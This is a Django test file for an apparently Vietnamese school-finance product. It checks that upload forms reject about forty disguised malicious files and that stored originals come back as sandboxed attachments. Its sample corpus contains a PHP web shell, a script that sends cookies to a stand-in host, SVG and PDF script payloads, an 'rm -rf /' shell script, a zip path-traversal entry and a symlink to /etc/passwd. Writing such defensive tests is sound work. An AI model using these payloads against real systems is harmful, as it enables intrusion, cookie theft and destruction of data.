"""A11: forty files that are not what they are called: none is taken by any form, run, or given back as a page."""

from __future__ import annotations

import ast
import io
import stat
import zipfile
from collections.abc import Iterator

import pytest
from django import forms
from django.apps import apps
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client
from django.urls import resolve, reverse

from tests import factories
from tests.abuse.lists import using
from tests.architecture.rooms import sources
from truongso.accounts.types import Role
from truongso.banking.models import StatementImport
from truongso.banking.tests.helpers import file, line
from truongso.kernel import clock
from truongso.kernel.sheet_writer import SheetOut, write_xlsx
from truongso.kernel.sheets import SheetError, read_sheets
from truongso.kernel.ui.uploads import UploadField
from truongso.kernel.uploads import MB, Content, only, tables
from truongso.organizations.models import School
from truongso.people.models import RosterImport

PHP, JS = b"<?php system($_GET['c']); ?>", b"<script>fetch('//khac.example?'+document.cookie)</script>"
PNG, JPEG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
PDF, EXE, ELF = b"%PDF-1.7\n", b"MZ\x90\x00\x03\x00\x00\x00", b"\x7fELF\x02\x01\x01"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
BOOK = write_xlsx([SheetOut("x", ["a"], [["b"]])])


def package(parts: dict[str, bytes], base: bytes = b"", *, link: str = "") -> bytes:
    out = io.BytesIO(base)
    with zipfile.ZipFile(out, "a") as made:
        for name, content in parts.items():
            made.writestr(name, content)
        if link:
            entry = zipfile.ZipInfo(link)
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            made.writestr(entry, "/etc/passwd")
    return out.getvalue()


CORPUS = [
    ("a.php", PHP), ("a.xlsx", PHP), ("a.php.csv", b"<?= system('id') ?>"), ("a.phtml", b"<% eval request %>"),
    ("a.gif", b"GIF89a" + PHP), ("a.png", PNG + PHP), ("a.jpg", JPEG + PHP), ("a.xlsx", JPEG + JS),
    ("a.html", b"<html>" + JS), ("a.xlsx", b"<html>" + JS), ("a.csv", JS), ("a.csv", b"\xef\xbb\xbf  " + JS),
    ("a.csv", b"<!DOCTYPE html>" + JS), ("a.svg", SVG), ("a.csv", SVG), ("a.svg", b"<?xml version='1.0'?>" + SVG),
    ("a.xml", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>" + JS), ("a.csv", b"<iframe src=//x>"),
    ("a.pdf", PDF + b"/OpenAction << /JS (app.alert(1)) >>"), ("a.xlsx", PDF), ("a.jpg", EXE), ("a.csv", EXE),
    ("a.xlsx", EXE + BOOK), ("a.bin", ELF), ("a.sh", b"#!/bin/sh\nrm -rf /\n"), ("a.csv", b"#!/usr/bin/env python3\n"),
    ("a.class", b"\xca\xfe\xba\xbe\x00"), ("a.wasm", b"\x00asm\x01\x00\x00\x00"), ("a.rar", b"Rar!\x1a\x07\x00"),
    ("a.7z", b"7z\xbc\xaf\x27\x1c"), ("a.gz", b"\x1f\x8b\x08\x00"), ("a.zip", package({"a.php": PHP})),
    ("a.docm", package({"word/document.xml": b"<w/>", "word/vbaProject.bin": OLE})),
    ("a.jar", package({"META-INF/x": b""})),
    ("a.apk", package({"classes.dex": b"dex\n"})), ("a.xlsm", package({"xl/vbaProject.bin": OLE}, BOOK)),
    ("a.xlsx", package({"xl/embeddings/oleObject1.bin": EXE}, BOOK)), ("a.xlsx", package({"../../vao.php": PHP}, BOOK)),
    ("a.xlsx", package({}, BOOK, link="xl/noi")), ("a.xls", OLE + "_VBA_PROJECT_CUR".encode("utf-16-le")),
    ("a.ods", package({"content.xml": b"<x/>"})), ("a.odt", package({"mimetype": b"application/vnd.oasis"})),
]  # fmt: skip
"""File name and content; forty-two kinds of trouble."""


def upload_fields() -> Iterator[tuple[str, UploadField]]:
    """Every upload field of every form of the product."""
    stack: list[type[forms.Form]] = [forms.Form]
    while stack:
        form = stack.pop()
        stack += form.__subclasses__()
        if form.__module__.startswith("truongso.") and not {"sandbox", "tests"} & set(form.__module__.split(".")):
            for name, field in getattr(form, "base_fields", {}).items():
                if isinstance(field, forms.FileField):
                    assert isinstance(field, UploadField), f"{form.__qualname__}.{name}"
                    yield f"{form.__module__}.{form.__qualname__}.{name}", field


def test_there_are_forty_and_no_other_way_to_take_a_file() -> None:
    assert len(CORPUS) >= 40
    stored = [
        f"{m.__name__}.{f.name}" for m in apps.get_models() for f in m._meta.fields if isinstance(f, models.FileField)
    ]
    assert [one for one in stored if not one.startswith("django")] == []
    assert using(r"forms\.(File|Image)Field") == {"kernel/ui/uploads.py"}


@pytest.mark.parametrize(("name", "content"), CORPUS)
def test_no_form_takes_it_and_no_reader_finds_a_table_in_it(name: str, content: bytes) -> None:
    for field, html in ((UploadField(tables(32 * MB)), True), (UploadField(tables(MB)), False)):
        try:
            taken = field.clean(SimpleUploadedFile(name, content))
        except ValidationError:
            continue
        with pytest.raises(SheetError):
            read_sheets(taken.read(), taken.name, html_tables=html)
    with pytest.raises(ValidationError):
        UploadField(only(Content.TEXT, most=MB)).clean(SimpleUploadedFile(name, content))
    if not content.startswith((PNG[:8], JPEG[:3])):
        with pytest.raises(ValidationError):
            UploadField(only(Content.PICTURE, most=MB)).clean(SimpleUploadedFile(name, content))


@pytest.mark.django_db
@pytest.mark.usefixtures("school_day")
def test_the_forms_of_the_product_keep_none_of_it(school: School) -> None:
    resolve("/")  # every form is known once the addresses are
    assert len(dict(upload_fields())) >= 8
    factories.school_year()
    client = factories.login(Client(), factories.user(Role.ACCOUNTANT, school=school))
    account = factories.bank_account(school)
    for name, content in CORPUS[::4]:
        form = {"year": "2026-2027", "file": SimpleUploadedFile(name, content)}
        assert client.post("/hoc-sinh/nhap", form).status_code in {200, 422}, name
        form = {"account": account.public_id, "file": SimpleUploadedFile(name, content)}
        assert client.post("/thu/sao-ke/tai-len", form).status_code in {200, 422}, name
    assert RosterImport.objects.for_school(school).count() == 0
    assert StatementImport.objects.for_school(school).count() == 0


@pytest.mark.django_db
@pytest.mark.usefixtures("school_day")
def test_what_opens_in_the_browser_is_paper_the_product_drew() -> None:
    """One host is enough as long as nothing of users is shown from it (ASVS 3.5.4): a way of sending a file that is no
    attachment says in the same call that it is a PDF, and has made it just before."""
    shown = {
        (path, kind)
        for path, tree in sources()
        for call in ast.walk(tree)
        if isinstance(call, ast.Call) and ast.unparse(call.func) in {"file_response", "recorded_file"}
        if path != "kernel/ui/downloads.py"  # which passes on what it was told
        if any(k.arg == "inline" and ast.unparse(k.value) != "False" for k in call.keywords)
        for kind in [ast.unparse(call.args[2])]
    }
    papers = ("payments/web/printing.py", "payments/web/receipts.py", "payments/web/reminders.py",
              "workspaces/web/info_template.py")  # fmt: skip
    assert shown == {(path, "'application/pdf'") for path in papers}


def test_what_is_given_back_is_an_attachment_without_an_origin(school: School) -> None:
    account = factories.bank_account(school)
    content = file(account, line("FT1", 90_000, "<script>alert(1)</script>"))
    kept = StatementImport.objects.create(
        school=school, bank_account=account, file_name="sao-ke.html", sha256="0" * 64, content=content, layout="x",
        uploaded_at=clock.now(),
    )  # fmt: skip
    client = factories.login(Client(), factories.user(Role.ACCOUNTANT, school=school))
    answer = client.get(reverse("banking:original", kwargs={"public_id": kept.public_id}))
    assert answer.status_code == 200
    assert answer.content == content
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"].startswith("attachment; ")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"] == "default-src 'none'; sandbox"
